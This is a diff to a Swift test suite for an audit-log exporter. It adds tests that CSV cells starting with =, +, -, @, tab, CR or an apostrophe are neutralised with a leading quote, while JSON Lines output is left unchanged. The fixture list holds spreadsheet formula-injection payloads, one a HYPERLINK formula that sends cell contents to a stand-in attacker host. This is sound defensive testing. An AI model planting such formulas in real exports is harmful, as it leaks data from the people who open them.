@@ -125,9 +125,52 @@ struct AuditLogTests {
         #expect(text.contains("3,2027-01-16T08:00:00Z,run-2,soft_delete,failed,e-2,,,staff,,\"left, with a comma\","))
     }
 
-    @Test("an export can be checked without our tool (Python's json and hashlib)", arguments: [AuditExport.Format.jsonl, .csv])
-    func independentCheck(format: AuditExport.Format) async throws {
-        let temporary = try await filled()
+    /// Values a directory could hand us that a spreadsheet would run (issue 13), each in a
+    /// field that reaches the export from outside.
+    static let formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+49 30 1234", "-2+3", "@SUM(A1:A9)",
+                           "\tcmd", "\r=1", "'already quoted", "''", "'", "plain, with a comma"]
+
+    private func withFormulas() async throws -> TemporaryJournal {
+        let temporary = try TemporaryJournal()
+        try await temporary.journal.append(Self.formulas.enumerated().map { index, value in
+            AuditRecord(time: Self.day1.addingTimeInterval(Double(index)), runID: "run-1", action: .skip, outcome: .ok,
+                externalUserID: value, email: value, reason: value)
+        })
+        return temporary
+    }
+
+    @Test("CSV: a cell a spreadsheet would run as a formula (=, +, -, @, tab, CR, ') gets one leading '; JSON Lines stay byte-faithful")
+    func formulaCells() async throws {
+        let temporary = try await withFormulas()
+        defer { temporary.remove() }
+        let csv = try await export(temporary.journal, .csv)
+        #expect(csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\","))
+        #expect(csv.contains(",'+49 30 1234,,'+49 30 1234,,,'+49 30 1234,"))
+        #expect(csv.contains(",'-2+3,"))
+        #expect(csv.contains(",'@SUM(A1:A9),"))
+        #expect(csv.contains(",'\tcmd,"))
+        #expect(csv.contains(",\"'\r=1\","))
+        #expect(csv.contains(",''already quoted,"))
+        #expect(csv.contains(",''',"))
+        #expect(csv.contains(",'',"))
+        #expect(csv.contains(",\"plain, with a comma\","))
+        for value in Self.formulas { #expect(AuditExport.csvValue(ofCell: Self.unquoted(AuditExport.csvField(value))) == value) }
+        #expect(AuditExport.csvField("2027-01-15T08:00:00Z") == "2027-01-15T08:00:00Z")
+        let jsonl = try await export(temporary.journal, .jsonl)
+        #expect(jsonl.contains(#""email":"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")""#))
+        #expect(!jsonl.contains("'="))
+    }
+
+    /// RFC 4180 unquoting of one cell.
+    private static func unquoted(_ cell: String) -> String {
+        guard cell.hasPrefix("\""), cell.hasSuffix("\""), cell.count >= 2 else { return cell }
+        return String(cell.dropFirst().dropLast()).replacingOccurrences(of: "\"\"", with: "\"")
+    }
+
+    @Test("an export can be checked without our tool (Python's json and hashlib), formula cells too",
+          arguments: [(AuditExport.Format.jsonl, false), (.csv, false), (.jsonl, true), (.csv, true)])
+    func independentCheck(format: AuditExport.Format, formulas: Bool) async throws {
+        let temporary = try await formulas ? withFormulas() : filled()
         defer { temporary.remove() }
         let url = temporary.directory.appendingPathComponent("audit.\(format.rawValue)")
         try await export(temporary.journal, format).write(to: url, atomically: true, encoding: .utf8)
@@ -142,6 +185,6 @@ struct AuditLogTests {
         process.waitUntilExit()
         let text = String(decoding: output.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
         #expect(process.terminationStatus == 0, "\(text)")
-        #expect(text.contains("intact: 3 records"))
+        #expect(text.contains("intact: \(formulas ? Self.formulas.count : 3) records"))
     }
 }
